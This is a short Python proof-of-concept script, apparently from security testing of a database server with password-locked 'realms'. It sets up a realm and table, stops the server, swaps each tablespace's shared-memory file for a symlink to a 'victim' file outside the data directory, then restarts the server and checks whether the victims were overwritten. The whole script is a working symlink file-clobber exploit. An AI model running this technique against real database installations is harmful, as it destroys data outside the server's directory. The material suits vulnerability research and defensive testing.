# exploratory script (attempts that held); run with /usr/bin/python3, prints observations
import sys, time, signal, os, glob; sys.path.insert(0,'/work/attack2/findings')
from dbv import *
s=Server(); s.start(); print(s.tmp, s.port)
d=s.connect('dba'); sa=s.connect('secadmin')
print(run(sa,"CREATE REALM hr DESCRIPTION 'h' REQUIRE VAULT PASSWORD 'hrpw-1' TABLESPACE hr_ts"))
print(run(d,"CREATE TABLE sal (id INTEGER PRIMARY KEY, amount INTEGER) TABLESPACE hr_ts"))
print(run(d,"UNLOCK REALM hr PASSWORD 'hrpw-1'"), run(d,"INSERT INTO sal VALUES (1,100)"))
d.close(); sa.close()
print('stop', s.stop())
dd=s.data+"/data"
os.system("ls -la "+dd)
victims={}
for f in glob.glob(dd+"/ts_*.db"):
    v=s.tmp+"/victim_"+os.path.basename(f)
    open(v,"w").write("precious content outside the data directory\n"*100)
    shm=f+"-shm"
    if os.path.exists(shm): os.unlink(shm)
    os.symlink(v, shm); victims[v]=os.path.getsize(v)
try:
    s.start()
    d=s.connect('dba')
    print(run(d,"UNLOCK REALM hr PASSWORD 'hrpw-1'"), run(d,"SELECT * FROM sal"), run(d,"INSERT INTO sal VALUES (2,200)"))
    time.sleep(1)
except Exception as e: print("start failed", e); os.system("tail -5 %s/server.log"%s.tmp)
os.system("ls -la "+dd)
for v,sz in victims.items(): print(v, sz, '->', os.path.getsize(v), open(v,'rb').read(40))
print('stop', s.stop())
